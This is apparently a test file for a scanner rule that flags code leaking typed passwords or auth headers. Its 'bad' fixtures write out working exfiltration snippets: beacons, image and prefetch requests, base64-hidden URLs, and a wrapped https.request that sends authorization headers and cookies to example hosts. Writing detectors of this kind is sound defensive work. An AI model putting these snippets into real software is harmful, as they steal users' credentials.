import assert from 'node:assert/strict';
import { test } from 'node:test';
import { findingsOf } from '#test/support/scan-package.js';
import { rule } from '../data-leak.rule.js';

/** Of `data-leak`, passwords that people type on pages. */
const worst = (text: string, more: Record<string, string> = {}) => findingsOf(rule, { 'a.js': text, ...more })[0]?.severity ?? 'nothing';
const form = (submit: string, imported = ''): string => `import { useState } from "react"; ${imported} export function useForm({ onSubmit }) { const [values, setValues] = useState({ email: "", password: "" }); const [errors, setErrors] = useState({ email: "", password: "" }); const submit = async () => { ${submit}; await onSubmit(values) }; return { values, errors, submit, setValues, setErrors } }`;

test('bad: a password goes to a server by a beacon, a picture or a link, or beside which page this is by a request that nobody waits for', () => {
  for (const submit of [
    'navigator.sendBeacon("https://forms.example.org/b", values.email + "|" + values.password)',
    'const line = location.host + values.password; fetch("https://forms.example.org/b", { method: "POST", mode: "no-cors", body: btoa(line) }).catch(() => {})',
    'new Image().src = "https://px.example.org/p.gif?d=" + encodeURIComponent(JSON.stringify(values))',
    'const el = document.createElement("link"); el.rel = "prefetch"; el.href = `https://px.example.org/${btoa(values.password).split("").reverse().join("")}`; document.head.append(el)',
    'navigator.sendBeacon(atob("aHR0cHM6Ly9weC5leGFtcGxlLm9yZy8="), JSON.stringify({ ...values }))',
  ]) assert.equal(worst(form(submit)), 'high', submit);
  assert.equal(worst('export const watch = (form) => form.addEventListener("submit", () => { const secret = form.querySelector("[type=password]").value; const el = document.createElement("img"); el.setAttribute("src", "//px.example.org/p?" + secret) })'), 'high');
  assert.equal(worst('const kinds = ["text", "password"]; export const watch = (form) => form.addEventListener("submit", () => navigator.sendBeacon("https://px.example.org/p", new FormData(form)))'), 'high');
});

test('bad: by way of another script', () => {
  const track = { 'track.js': 'const end = "https://px.example.org/1.gif"; const pack = (o) => btoa(JSON.stringify(o)); export function track(event, detail) { const img = new Image(); img.src = `${end}?e=${event}&h=${location.host}&v=${pack(detail)}` }' };
  assert.equal(worst(form('track("login", values)', 'import { track } from "./track.js";'), track), 'high');
  const strength = { 'strength.js': 'const look = (p) => { fetch("https://leaks.example.org/q", { method: "POST", body: JSON.stringify([location.href, p]) }) }; exports.strength = (p) => { look(p); return p.length }' };
  assert.equal(worst('"use strict"; const strength_1 = require("./strength"); exports.Field = (props) => { const [pass, setPass] = React.useState(""); props.onChange({ pass, score: (0, strength_1.strength)(pass) }); return h("input", { type: "password", onChange: setPass }) }', strength), 'high');
});

test('good: clients that log in, hashes, what is said about a form, cameras and servers of the page', () => {
  for (const submit of [
    'const answer = await fetch("https://api.example.org/session", { method: "POST", body: JSON.stringify({ ...values, back: location.href }) }); if (!answer.ok) throw new Error()',
    'fetch("https://api.example.org/session", { method: "POST", body: JSON.stringify(values) })',
    'fetch("https://api.example.org/session", { method: "POST", body: JSON.stringify({ ...values, at: location.host }) }).then((answer) => setErrors(answer))',
    'navigator.sendBeacon("https://stats.example.org/e", JSON.stringify({ page: location.href, errors, long: values.password.length > 8, reason: errors.password, email: values.email }))',
    'navigator.sendBeacon("https://stats.example.org/e", JSON.stringify({ page: location.href, field: "password", ok: check(values.password) }))',
    'navigator.sendBeacon("/login/beacon", JSON.stringify(values))',
    'new Image().src = "http://" + values.host + "/snapshot?pwd=" + values.password',
  ]) assert.equal(worst(form(submit)), 'nothing', submit);
  assert.equal(worst('export async function seen(password) { const hex = await sha1(password); const el = document.createElement("link"); el.rel = "preconnect"; el.href = "https://range.example.org/" + hex.slice(0, 5); return (await (await fetch("https://range.example.org/range/" + hex.slice(0, 5))).text()).includes(hex) }'), 'nothing');
  const track = { 'track.js': 'export function track(event, detail) { navigator.sendBeacon("https://stats.example.org/e", JSON.stringify({ event, detail, page: location.href })) }' };
  for (const handed of ['"login", { ok: true, errors }', '"password", values.email', '"strength", strength(values.password)']) assert.equal(worst(form(`track(${handed})`, 'import { track } from "./track.js";'), track), 'nothing', handed);
});

test('bad: what others log in with is heard by a function in the place of the one that makes requests, and sent; good: counters, other headers, and what is not sent', () => {
  const wrap = (inner: string, flush = 'const r = send({ hostname: "in.example.org", method: "POST" }); r.end(JSON.stringify(queue.splice(0)))'): string => `const https = require("https"); const queue = []; const counters = new Map(); function wrap(mod) { const original = mod.request; mod.request = function (...args) { const req = original.apply(this, args); req.once("finish", () => { ${inner} }); return req }; return original } const send = wrap(https); setInterval(() => { ${flush} }, 30000)`;
  assert.equal(worst(wrap('const login = req.getHeader("authorization") || req.getHeader("cookie"); if (login) queue.push([req.path, login])')), 'high');
  assert.equal(worst(wrap('queue.push({ at: req.path, with: btoa(args[0].headers.Authorization) })')), 'high');
  assert.equal(worst('const before = client.fetch; client.fetch = async (url, options) => { navigator.sendBeacon("https://in.example.org/k", JSON.stringify([url, options.headers["x-api-key"]])); return before(url, options) }'), 'high');
  for (const code of [
    wrap('queue.push([req.getHeader("host"), Boolean(req.getHeader("authorization") === undefined)])'),
    wrap('if (req.getHeader("authorization")) queue.push(req.path)'),
    wrap('queue.push(hash(req.getHeader("authorization")))'),
    wrap('queue.push(req.getHeader("authorization"))', 'queue.length = 0; send({ hostname: "in.example.org", path: "/alive" }).end()'),
    'exports.request = (options) => { const headers = { authorization: options.headers.authorization }; return fetch("https://api.example.org/v1", { headers }) }',
  ]) assert.equal(worst(code), 'nothing', code);
});
